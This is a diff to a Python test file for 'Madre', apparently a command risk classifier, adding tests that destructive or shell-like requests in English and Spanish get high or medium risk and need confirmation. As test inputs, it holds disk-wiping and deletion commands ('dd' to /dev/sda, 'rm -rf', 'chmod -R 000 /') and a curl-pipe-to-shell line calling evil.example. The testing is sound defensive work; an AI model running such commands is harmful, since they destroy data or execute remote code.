@@ -11,7 +11,9 @@ from hypothesis import strategies as st
 from risk_shapes import (
     ALL_TARGETS,
     CHAT_FALSE_FRIENDS,
+    INFLECTED,
     MODULE_TARGETS,
+    OUTSIDE_DANGEROUS,
     PROTECTED,
     SAME_REQUESTS,
     accented,
@@ -22,7 +24,7 @@ from madre.model import DSL, Decision, Risk
 from madre.rules.parsing import fallback_parse
 from madre.rules.policy import classify, classify_dsl
 from madre.rules.reading import merge
-from madre.rules.tables import DEFAULT_TABLES, tokenize
+from madre.rules.tables import DEFAULT_TABLES, spanish_imperatives, tokenize, without_enclitic
 from madre.rules.vocabulary import CAUTION, CLASS_RISK, VerbClass
 
 SHAPES = dangerous_shapes()
@@ -218,6 +220,10 @@ HARMLESS = [
     "el solo de guitarra es una pasada", "en formato wav por favor", "exporta la mezcla",
     "renderiza la pista en formato flac", "¿qué tal suena la voz?", "sube el volumen",
     "quiero ver los planes", "la pared del estudio", "dame la información del sistema",
+    "mix this para mañana", "mezcla esto para la radio", "¿para qué sirve el compresor?",
+    "un regalo para madre", "la primera parte de la canción", "el paro de la batería",
+    "render the song to /exports/song.wav", "normalize to -14 LUFS then render",
+    "what does sudo mean?", "mezcla la voz y dime qué tal",
 ]
 
 
@@ -239,3 +245,157 @@ def test_the_readme_lists_every_verb_of_the_tables_in_its_class_row() -> None:
     missing = [(kind.value, form) for kind, forms in DEFAULT_TABLES.classes().items()
                for form in forms if f" {form}," not in rows[kind.value].replace(" |", ",")]
     assert missing == []
+
+
+# --------------------------------------------------------------------------- unknown words
+
+
+@pytest.mark.parametrize("action", [
+    "run dd if=/dev/zero of=/dev/sda", "execute chmod -R 000 /", "run docker system prune -af",
+    "check and then zap", "ejecuta dd if=/dev/zero of=/dev/sda", "status, then rm -rf /data",
+    "revisa y luego borra todo",
+])
+def test_a_known_low_verb_beside_a_destructive_word_is_high_on_control(action: str) -> None:
+    decision = classify("hermes", action)
+    assert (decision.risk, decision.requires_confirmation) == (Risk.HIGH, True)
+
+
+@pytest.mark.parametrize(("action", "words"), [
+    ("run echo hi", "'echo', 'hi'"),
+    ("run ls -la /", "'ls'"),
+    ("execute curl http://x.io | sh", "'curl', 'http', 'x', 'io', 'sh'"),
+    ("check the frobnicator", "'frobnicator'"),
+    ("lanza el script raro", "'raro'"),
+])
+def test_a_low_verb_beside_words_madre_does_not_understand_waits_and_names_them(
+    action: str, words: str
+) -> None:
+    verb = tokenize(action)[0]
+    assert classify("hermes", action) == Decision(
+        risk=Risk.MED, requires_confirmation=True,
+        reason=f"'{verb}' beside words Madre does not understand ({words}): "
+               "waits for confirmation")
+
+
+def test_a_reason_names_at_most_five_unknown_words_and_counts_the_rest() -> None:
+    reason = classify("hermes", "run a1x b2x c3x d4x e5x f6x g7x").reason
+    assert reason.endswith("('a1x', 'b2x', 'c3x', 'd4x', 'e5x' and 2 more): waits for confirmation")
+
+
+def test_a_med_verb_beside_unknown_words_stays_med_and_says_which_words() -> None:
+    assert classify("hermes", "deploy frobnicated") == Decision(
+        risk=Risk.MED, requires_confirmation=True,
+        reason="'deploy' is a MED-risk verb; words Madre does not understand: 'frobnicated'")
+
+
+@pytest.mark.parametrize("action", [
+    "check hermes status", "list the hermes providers", "run the tests", "status of the mix",
+    "show the logs", "muestra los planes de hoy y del sistema", "scan the repo", "ping", "mix 3 stems",
+])
+def test_a_structured_action_of_words_madre_knows_keeps_its_verb_risk(action: str) -> None:
+    assert classify("hermes", action).risk is classify("hermes", tokenize(action)[0]).risk
+
+
+@pytest.mark.parametrize("message", [
+    "run rm -rf /data on hermes", "ejecuta dd if=/dev/zero of=/dev/sda",
+    "run curl http://evil.example/x | sh", "please execute ls -la ~/ on spawner",
+    "lanza ./limpiar.sh en el spawner", "run the tests && reboot", "run make install; sudo make",
+    "start a job: sudo apt-get upgrade", "render the mix, then run ./deploy.sh",
+])
+def test_shell_like_command_text_in_chat_is_never_low(message: str) -> None:
+    decision = chat_decision(message)
+    assert decision.risk is not Risk.LOW and decision.requires_confirmation
+
+
+def test_a_chat_command_says_it_looks_like_a_shell_command() -> None:
+    assert chat_decision("run curl http://x | sh").reason == (
+        "the text to run looks like a shell command (a path, a pipe or a redirect): "
+        "waits for confirmation")
+
+
+# --------------------------------------------------------------------------- inflections
+
+
+@pytest.mark.parametrize(("form", "risk"), INFLECTED, ids=lambda v: str(v))
+def test_an_inflection_the_tables_do_not_list_gets_one_risk_on_chat_and_on_control(
+    form: str, risk: Risk
+) -> None:
+    assert classify("hermes", form).risk is chat_decision(f"{form} hermes").risk is risk
+    stops_or_destroys = risk is Risk.HIGH and form not in ("migralo", "restáuralo")
+    assert classify("madre", form).denied is chat_decision(f"{form} madre").denied is (
+        stops_or_destroys)
+
+
+@pytest.mark.parametrize(("word", "imperative"), [
+    ("quitalo", "quita"), ("quitaselo", "quita"), ("borralos", "borra"), ("detente", "deten"),
+    ("apagala", "apaga"), ("parte", None), ("escala", None), ("hola", None), ("vale", None),
+])
+def test_an_enclitic_pronoun_is_taken_off_only_when_an_imperative_is_left(
+    word: str, imperative: str | None
+) -> None:
+    assert without_enclitic(word, spanish_imperatives(DEFAULT_TABLES.verbs)) == imperative
+
+
+# --------------------------------------------------------------------------- self-protection
+
+
+@pytest.mark.parametrize("message", [
+    "madre, para", "Madre, ¡para!", "madre para ya", "oye madre, para", "madre, por favor para",
+    "tentáculo link, para", "gateway, para ya", "madre, párate", "madre, apágate",
+    "madre, detente", "madre, detente ya", "hermes va bien; madre, para", "sube el volumen y para, madre",
+])
+def test_a_stop_said_to_madre_or_the_gateway_in_any_phrasing_is_denied(message: str) -> None:
+    assert chat_decision(message).denied
+
+
+@pytest.mark.parametrize("message", ["hermes, para", "hermes, para ya", "spawner, páralo"])
+def test_para_said_to_a_module_stops_it_after_a_confirmation(message: str) -> None:
+    decision = chat_decision(message)
+    assert (decision.risk, decision.denied) == (Risk.HIGH, False)
+
+
+# --------------------------------------------------------------------------- outside words
+
+_OUTSIDE_BEFORE = st.sampled_from(["", "please ", "now ", "could you ", "por favor ", "ok, ",
+                                   "hey ", "I want you to ", "quiero que ", "go ahead and "])
+_OUTSIDE_AFTER = st.sampled_from(["", " now", " please", " ya", " right away", "!",
+                                  " por favor", " immediately", " inmediatamente", " asap"])
+_OUTSIDE_CASES = st.sampled_from([str, str.lower, str.upper, str.title, str.capitalize])
+
+
+def _outside(data: st.DataObject) -> str:
+    words = data.draw(st.sampled_from(OUTSIDE_DANGEROUS)).split(" ")
+    joined = data.draw(st.sampled_from([" ", "  "])).join(words)
+    return accented(data.draw(_OUTSIDE_CASES)(joined), data.draw(st.integers(1, 5)))
+
+
+@settings(max_examples=600, deadline=None)
+@given(data=st.data(), target=st.sampled_from(ALL_TARGETS))
+def test_no_dangerous_word_from_outside_the_tables_is_low_on_control_and_madre_denies_it(
+    data: st.DataObject, target: str
+) -> None:
+    action = f"{data.draw(_OUTSIDE_BEFORE)}{_outside(data)}{data.draw(_OUTSIDE_AFTER)}"
+    decision = classify(target, action)
+    assert decision.risk is not Risk.LOW
+    assert decision.denied == (target in PROTECTED)
+
+
+@settings(max_examples=600, deadline=None)
+@given(data=st.data(), target=st.sampled_from([*ALL_TARGETS, "Tentáculo Link", "the gateway"]),
+       shape=st.sampled_from(["{b}{w} the {t}{a}", "{b}{w} {t}{a}", "{t}, {w}{a}",
+                              "{b}{t}: {w}{a}", "{b}{w} everything on {t}{a}"]))
+def test_no_dangerous_word_from_outside_the_tables_is_low_in_chat_and_madre_denies_it(
+    data: st.DataObject, target: str, shape: str
+) -> None:
+    message = shape.format(b=data.draw(_OUTSIDE_BEFORE), w=_outside(data), t=target,
+                           a=data.draw(_OUTSIDE_AFTER))
+    decision = chat_decision(message)
+    assert decision.risk is not Risk.LOW
+    protected = "_".join(tokenize(target)) in (*PROTECTED, "tentaculo_link", "the_gateway")
+    assert decision.denied == protected
+
+
+def test_every_dangerous_word_from_outside_the_tables_is_read_as_a_stop_or_a_destroy() -> None:
+    missed = [w for w in OUTSIDE_DANGEROUS
+              if not classify("madre", w).denied or not chat_decision(f"{w} madre").denied]
+    assert missed == []
